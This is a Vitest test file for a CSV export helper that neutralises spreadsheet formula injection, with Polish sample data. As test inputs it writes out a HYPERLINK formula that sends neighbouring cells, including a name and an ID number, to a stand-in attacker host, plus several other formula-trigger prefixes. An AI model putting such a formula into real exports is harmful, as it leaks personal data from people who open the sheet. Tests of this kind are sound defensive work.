import { describe, expect, it } from 'vitest';
import { isFormula, readCsv } from '../test/spreadsheet-csv';
import { csvCell, csvStringifier } from './csv';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://zly.example/?"&B3&C3,"Kliknij")', `"'=HYPERLINK(""http://zly.example/?""&B3&C3,""Kliknij"")"`],
    ['=1+1', `"'=1+1"`],
    ['+48 600 000 000', `"'+48 600 000 000"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['a;b', '"a;b"'],
    ['=a;b', `"'=a;b"`],
  ])('neutralises %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
    const [[read]] = readCsv(cell);
    expect(isFormula(read)).toBe(false);
    expect(read).toBe(value === 'a;b' ? value : `'${value}`);
  });

  it('leaves ordinary text, numbers with a decimal comma and dates as they are', () => {
    for (const value of ['Zażółć gęślą', '92,5', '2025-11-04', 'Najlepiej wtorki po 16:00.', 'a = b', '']) expect(csvCell(value)).toBe(value);
    expect(csvCell('wiersz\rdrugi')).toBe('"wiersz\rdrugi"');
  });
});

describe('csvStringifier', () => {
  it('streams rows with formula cells neutralised and the other cells intact', async () => {
    const out = csvStringifier({ delimiter: ';', record_delimiter: 'windows' });
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const done = new Promise((resolve) => out.on('end', resolve));
    out.write(['Kowalski Jan', '80010112345', '=HYPERLINK("http://zly.example/?"&B3&C3,"x")']);
    out.write(['Nowak Anna', '85020254321', 'Bez uwag']);
    out.end();
    await done;
    expect(readCsv(Buffer.concat(chunks).toString('utf8').trimEnd())).toEqual([
      ['Kowalski Jan', '80010112345', `'=HYPERLINK("http://zly.example/?"&B3&C3,"x")`],
      ['Nowak Anna', '85020254321', 'Bez uwag'],
    ]);
  });
});
